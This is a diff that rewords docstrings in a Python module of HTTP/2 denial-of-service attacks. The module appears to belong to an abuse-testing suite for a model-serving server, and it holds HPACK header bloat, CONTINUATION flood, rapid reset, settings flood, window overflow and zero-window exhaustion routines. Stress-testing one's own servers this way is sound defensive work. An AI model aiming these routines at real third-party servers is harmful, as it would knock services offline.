@@ -1,4 +1,4 @@
-"""Attacks with HTTP/2's own means: header compression, control frames, resets, shut windows."""
+"""Attacks with features of HTTP/2: header compression, control frames, resets, closed windows."""
 
 import contextlib
 import itertools
@@ -12,11 +12,11 @@ from abuse.attacker import Counts, Target
 from serving.client import predict_request
 
 _METRICS = "/monitoring/prometheus/metrics"
-_BIG_VALUE = 3900  # with its name and 32 bytes of overhead it fits the usual table of 4,096
+_BIG_VALUE = 3900  # with name and 32 bytes of overhead it fits the default table of 4,096 bytes
 
 
 def _blocks(block: bytes, stream: int) -> bytes:
-    """A request whose header block goes on in CONTINUATION frames."""
+    """Return the frames of a request whose header block continues in CONTINUATION frames."""
     parts = [block[at : at + 16000] for at in range(0, len(block), 16000)]
     frames = []
     for number, part in enumerate(parts):
@@ -29,7 +29,7 @@ def _blocks(block: bytes, stream: int) -> bytes:
 
 
 def _on_ten_connections(target: Target, stream_bytes: Callable[[int], bytes]) -> Counts:
-    """Send 175 kB of header blocks on each of ten connections, over and over."""
+    """Send 175 kB of header blocks on each of ten connections, repeatedly."""
     connections = sent = closed = 0
     while target.left() and connections < 300:
         opened = []
@@ -54,14 +54,14 @@ def _on_ten_connections(target: Target, stream_bytes: Callable[[int], bytes]) ->
 
 
 def hpack_many_headers(target: Target) -> Counts:
-    """Requests with 4,000 small headers each."""
+    """Send requests with 4,000 small headers each."""
     fields = wire.request_fields("GET", "/healthz")
     block = wire.header_block([*fields, *((f"x-{number}", "1") for number in range(4000))])
     return _on_ten_connections(target, lambda stream: _blocks(block, stream))
 
 
 def hpack_indexed(target: Target) -> Counts:
-    """One large header in the table, then 15,000 references to it in a request of 16 kB."""
+    """Put one large header into the table, then send 15,000 references to it in each request."""
     start = wire.header_block(wire.request_fields("GET", "/healthz"))
     large = wire.header(b"x-large", b"a" * _BIG_VALUE, indexed=True)
 
@@ -73,7 +73,7 @@ def hpack_indexed(target: Target) -> Counts:
 
 
 def continuation_flood(target: Target) -> Counts:
-    """Header blocks that never end, in frames of one header each."""
+    """Send header blocks that never end, in frames of one header each."""
     part = wire.frame(wire.CONTINUATION, wire.header(b"x-a", b"1" * 90), stream=1) * 100
     start = wire.header_block(wire.request_fields("GET", "/healthz"))
     begin = wire.frame(wire.HEADERS, start, stream=1)
@@ -86,10 +86,10 @@ def _flood(
     """Send contents on one connection after another, each until the server closes it.
 
     Args:
-        target: What is attacked.
-        contents: What to send on a new connection.
-        most: Sends altogether.
-        streams: Things that one send holds, for the count.
+        target: The server to attack.
+        contents: Returns the contents to send on a new connection.
+        most: Limit on the number of sends, over all connections.
+        streams: Number of frames or requests in one send, for the count.
     """
     sent = connections = 0
     while target.left() and sent < most:
@@ -123,7 +123,7 @@ def settings_flood(target: Target) -> Counts:
 
 
 def rapid_reset(target: Target) -> Counts:
-    """Requests that are taken back with the next frame."""
+    """Send requests and reset each of them with the next frame."""
     body = wire.grpc_body(
         predict_request("identity", {"x": np.ones((1, 3), np.float32)}).SerializeToString()
     )
@@ -142,7 +142,7 @@ def rapid_reset(target: Target) -> Counts:
 
 
 def window_overflow(target: Target) -> Counts:
-    """Windows pushed over 2^31 - 1, of the connection and of a stream, and by zero."""
+    """Raise the windows of connection and stream over 2^31 - 1, or by zero."""
     request = wire.frame(
         wire.HEADERS,
         wire.header_block(wire.request_fields("GET", _METRICS)),
@@ -165,7 +165,7 @@ def window_overflow(target: Target) -> Counts:
 def _shut_windows(
     target: Target, connections: int, streams: int, fields: list[tuple[str, str]], body: bytes
 ) -> Counts:
-    """Ask for answers that the windows keep from being sent, and wait."""
+    """Send requests on connections whose windows of size 0 prevent the answers, and wait."""
     opened = []
     asked = closed = 0
     for _ in range(connections):
@@ -194,12 +194,12 @@ def _shut_windows(
 
 
 def zero_window_metrics(target: Target) -> Counts:
-    """60 connections ask for the page of metrics 200 times each, and take not a byte of it."""
+    """Request the metrics page 200 times on each of 60 connections, without reading a byte."""
     return _shut_windows(target, 60, 200, wire.request_fields("GET", _METRICS), b"")
 
 
 def zero_window_predict(target: Target) -> Counts:
-    """20 connections ask for 100 answers of 120 kB each, by requests of 70 bytes."""
+    """Request 100 answers of 120 kB on each of 20 connections, with requests of 70 bytes."""
     request = predict_request("wide", {"x": np.ones((1, 1), np.float32)})
     body = wire.grpc_body(request.SerializeToString())
     return _shut_windows(target, 20, 100, wire.grpc_fields(wire.PREDICT), body)
